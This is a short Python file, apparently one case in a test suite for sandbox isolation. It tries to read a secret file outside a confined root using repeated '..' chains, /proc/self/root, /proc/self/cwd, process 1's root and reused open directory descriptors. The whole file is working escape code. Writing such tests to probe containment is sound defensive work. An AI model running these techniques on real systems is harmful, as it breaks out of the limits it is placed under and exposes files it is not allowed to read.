# attack: Leaves its root by `..`, by links in /proc and by open folders.
# hurts: Shows files outside.
# ends: returns
import os

from _raw import attempt, read_file

UP = "/.." * 40


def attack(target):
    path = target["secret_file"]
    starts = [UP, f"/proc/self/root{UP}", f"/proc/self/cwd{UP}", f"/proc/thread-self/root{UP}", "/proc/self/task/../../1/root"]
    tried = []
    for name in ("/", "/tmp", "/proc", "/dev", "."):
        try:
            descriptor = os.open(name, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            tried.append(f"{name}: {error}")
            continue
        tried.append(attempt(name, relative, descriptor, UP.lstrip("/") + path))
        starts.append(f"/proc/self/fd/{descriptor}{UP}")
    return tried + [attempt(start, read_file, start + path) for start in starts]


def relative(descriptor, path):
    opened = os.open(path, os.O_RDONLY, dir_fd=descriptor)
    try:
        return os.read(opened, 4096)
    finally:
        os.close(opened)
